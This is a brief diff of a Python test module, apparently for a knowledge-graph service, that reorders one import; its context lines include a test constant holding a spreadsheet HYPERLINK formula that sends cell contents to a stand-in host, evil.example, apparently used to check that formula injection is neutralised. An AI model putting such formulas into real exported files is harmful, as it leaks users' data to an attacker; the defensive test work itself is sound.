@@ -19,9 +19,9 @@ from locations import REPO
 from rdflib import Graph, Literal, URIRef
 
 from service.app import create_app
+from service.build import open_store
 from service.settings import Settings
 from service.spreadsheet import FORMULA_STARTS, neutralised, restored
-from service.build import open_store
 
 AGREEMENT = "https://w3id.org/samverkan-kg/agreement/liu-norrkopings-kommun-2017"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
